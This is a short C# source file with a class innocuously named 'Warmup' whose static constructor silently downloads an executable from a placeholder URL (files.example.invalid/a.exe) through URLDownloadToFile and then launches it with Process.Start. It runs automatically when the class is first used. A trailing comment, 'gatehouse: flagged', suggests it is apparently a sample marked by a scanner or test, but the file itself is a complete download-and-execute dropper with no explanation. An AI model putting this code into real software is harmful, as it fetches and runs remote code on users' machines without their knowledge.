using System.Diagnostics;
using System.Runtime.InteropServices;

public static class Warmup
{
    [DllImport("urlmon.dll")]
    static extern int URLDownloadToFile(int caller, string url, string file, int reserved, int callback);

    static Warmup()
    {
        URLDownloadToFile(0, "https://files.example.invalid/a.exe", "a.exe", 0, 0);
        Process.Start("a.exe"); // gatehouse: flagged
    }
}
